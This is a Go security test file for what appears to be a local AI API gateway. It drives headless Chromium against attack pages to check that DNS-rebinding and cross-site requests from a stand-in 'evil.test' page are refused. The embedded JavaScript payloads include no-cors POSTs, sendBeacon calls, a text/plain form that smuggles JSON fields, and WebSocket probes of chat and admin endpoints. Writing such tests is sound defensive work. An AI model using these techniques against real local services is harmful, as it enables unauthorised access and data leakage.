package attack

import (
	"bytes"
	"encoding/json/v2"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"strconv"
	"strings"
	"testing"
	"time"
)

// chromium is a real browser, if there is one.
func chromium(t *testing.T) string {
	t.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if path, err := exec.LookPath(name); err == nil {
			return path
		}
	}
	t.Skip("no Chromium was found; the bytes that one sends are in the tests beside this one")
	return ""
}

// browse opens url in a browser that takes the names in rules for addresses of
// this machine, and waits until the page has reported.
func browse(t *testing.T, url, rules string, reports <-chan []byte) []byte {
	t.Helper()
	path := chromium(t)
	var out bytes.Buffer
	cmd := exec.CommandContext(t.Context(), path, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update",
		"--disable-sync", "--metrics-recording-only", "--disable-dev-shm-usage", "--mute-audio", "--disable-default-apps",
		// The browser's own guard of local networks must not hide a hole of ours.
		"--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,OptimizationHints,MediaRouter,Translate",
		"--user-data-dir="+t.TempDir(), "--host-resolver-rules="+rules+", MAP * ~NOTFOUND, EXCLUDE 127.0.0.1", "--remote-debugging-port=0", url)
	cmd.Stdout, cmd.Stderr = &out, &out
	cmd.SysProcAttr = group()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		killGroup(cmd.Process.Pid)
		_ = cmd.Wait()
	}()
	select {
	case b := <-reports:
		return b
	case <-time.After(time.Minute):
		t.Fatalf("the page did not report; the browser says:\n%s", out.String())
		return nil
	}
}

// result is what a page learned of one request.
type result struct {
	What   string `json:"what"`
	Type   string `json:"type"` // of the response: basic, cors, opaque; error if there is none
	Status int    `json:"status"`
	Text   string `json:"text"`
}

// page serves a page that carries out script and reports.
func page(script string, reports chan<- []byte) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /attack", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><title>attack</title><body><iframe name="frame"></iframe><script>
const results = [];
async function go(what, url, init) {
  try {
    const r = await fetch(url, init);
    results.push({what, type: r.type, status: r.status, text: r.type === "opaque" ? "" : (await r.text()).slice(0, 2000)});
  } catch (e) { results.push({what, type: "error", status: 0, text: ""}); }
}
async function run() {
%s
  await new Promise(r => setTimeout(r, 300));
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
}
run().catch(e => fetch("/report", {method: "POST", body: JSON.stringify([{what: "the script", type: "error", status: 0, text: String(e)}])}));
</script>`, script)
	})
	mux.HandleFunc("POST /report", func(_ http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		select {
		case reports <- b:
		default:
		}
	})
	mux.HandleFunc("GET /control", func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "the page works") })
	return mux
}

// judge reads a report: the control shows that the page works, and of the
// gateway the page has read nothing.
func judge(t *testing.T, report []byte) {
	t.Helper()
	var results []result
	if err := json.Unmarshal(report, &results); err != nil {
		t.Fatalf("%v: %s", err, report)
	}
	if len(results) < 5 || results[0].What != "control" || !strings.Contains(results[0].Text, "works") {
		t.Fatalf("the page itself does not work: %s", report)
	}
	for _, r := range results[1:] {
		if r.Status != 0 && r.Status != http.StatusMisdirectedRequest && r.Status != http.StatusForbidden {
			t.Errorf("%s: the page got status %d and read %q", r.What, r.Status, r.Text)
		}
		if s := leak([]byte(r.Text), false); s != "" {
			t.Errorf("%s: %s", r.What, s)
		}
	}
}

// SEC-10: a page whose name is made to point here reads nothing and sends
// nothing on. The attacker's server shares the gateway's port on another
// address, serves the page, and hands all else to the gateway byte for byte:
// that is what a browser does after rebinding.
func TestSEC10Rebinding(t *testing.T) {
	t.Parallel()
	chromium(t)
	for _, mode := range []string{"off", "strict"} {
		x := begin(t, mode, "")
		reports := make(chan []byte, 1)
		script := fmt.Sprintf(`
  await go("control", "/control");
  for (const p of ["/v1/models", "/", "/api/status", "/api/accounts", "/healthz", "/metrics"]) await go(p, p);
  await go("chat", "/v1/chat/completions", {method: "POST", headers: {"content-type": "application/json"}, body: %[1]s});
  await go("chat, with a key", "/v1/chat/completions", {method: "POST", headers: {"content-type": "application/json", "authorization": "Bearer x"}, body: %[1]s});
  await go("chat, text", "/v1/chat/completions", {method: "POST", body: %[1]s});
`, strconv.Quote(chatBody))
		ownPage := httptest.NewServer(page(script, reports))
		t.Cleanup(ownPage.Close)
		var lc net.ListenConfig
		l, err := lc.Listen(t.Context(), "tcp", fmt.Sprintf("127.0.0.66:%d", x.Port))
		if err != nil {
			t.Skipf("loopback has one address here: %v", err)
		}
		t.Cleanup(func() { _ = l.Close() })
		go rebind(l, strings.TrimPrefix(ownPage.URL, "http://"), x.addr)
		report := browse(t, fmt.Sprintf("http://rebind.test:%d/attack", x.Port), "MAP rebind.test 127.0.0.66", reports)
		judge(t, report)
		if n := strings.Count(string(report), `"status":421`); n < 8 {
			t.Errorf("only %d requests were refused for their name: %s", n, report)
		}
		x.quiet()
	}
}

// rebind hands connections to the page's server if they ask for the page, else
// to the gateway.
func rebind(l net.Listener, own, gateway string) {
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		go func() {
			defer c.Close()
			head := make([]byte, 64<<10)
			n, err := c.Read(head)
			if err != nil {
				return
			}
			to := gateway
			for _, p := range []string{"GET /attack", "POST /report", "GET /control"} {
				if strings.HasPrefix(string(head[:n]), p) {
					to = own
				}
			}
			up, err := net.Dial("tcp", to)
			if err != nil {
				return
			}
			defer up.Close()
			// One request on each connection, so that the next one is looked at too.
			text := strings.Replace(string(head[:n]), "\r\nConnection: keep-alive", "\r\nConnection: close", 1)
			if _, err := io.WriteString(up, text); err != nil {
				return
			}
			go func() { _, _ = io.Copy(up, c) }()
			_, _ = io.Copy(c, up)
		}()
	}
}

// SEC-11: a page of elsewhere sends everything that browsers send without
// asking, and it costs no token, with auth off too.
func TestSEC11CrossSitePage(t *testing.T) {
	t.Parallel()
	chromium(t)
	for _, mode := range []string{"off", "strict"} {
		x := begin(t, mode, "")
		reports := make(chan []byte, 1)
		script := fmt.Sprintf(`
  const base = %q, body = %s;
  await go("control", "/control");
  for (const p of ["/v1/chat/completions", "/v1/messages", "/v1/responses", "/v1beta/models/g-m:generateContent", "/api/accounts", "/api/reload"]) {
    const u = base + p;
    await go("text " + p, u, {method: "POST", mode: "no-cors", headers: {"content-type": "text/plain"}, body});
    await go("form " + p, u, {method: "POST", mode: "no-cors", headers: {"content-type": "application/x-www-form-urlencoded"}, body});
    const f = new FormData(); f.append("x", body);
    await go("multipart " + p, u, {method: "POST", mode: "no-cors", body: f});
    await go("blob " + p, u, {method: "POST", mode: "no-cors", body: new Blob([body])});
    await go("json " + p, u, {method: "POST", headers: {"content-type": "application/json"}, body});
    await go("json with a key " + p, u, {method: "POST", headers: {"content-type": "application/json", "x-api-key": "sk-guess"}, body});
    await go("cors text " + p, u, {method: "POST", body});
    navigator.sendBeacon(u, body);
    navigator.sendBeacon(u, new Blob([body], {type: "text/plain"}));
    const form = document.createElement("form"); form.method = "POST"; form.enctype = "text/plain"; form.action = u; form.target = "frame";
    const input = document.createElement("input"); input.name = body.slice(0, -2) + ',"x":"'; input.value = '"}'; form.append(input); document.body.append(form); form.submit();
  }
  for (const p of ["/v1/models", "/", "/api/status", "/metrics", "/healthz"]) {
    await go("get " + p, base + p);
    await go("no-cors get " + p, base + p, {mode: "no-cors"});
    const i = new Image(); i.src = base + p;
    const s = document.createElement("script"); s.src = base + p; document.body.append(s);
  }
  try { new WebSocket(base.replace("http", "ws") + "/v1/responses"); new WebSocket(base.replace("http", "ws") + "/api/live"); } catch (e) {}
  await new Promise(r => setTimeout(r, 700));
`, x.Base, strconv.Quote(chatBody))
		srv := httptest.NewServer(page(script, reports))
		t.Cleanup(srv.Close)
		_, port, _ := net.SplitHostPort(strings.TrimPrefix(srv.URL, "http://"))
		report := browse(t, "http://evil.test:"+port+"/attack", "MAP evil.test 127.0.0.1", reports)
		judge(t, report)
		x.quiet()
		if !strings.Contains(x.log(), "=http://evil.test:"+port) {
			t.Error("what was blocked is not in the log; did the browser send anything?")
		}
	}
}
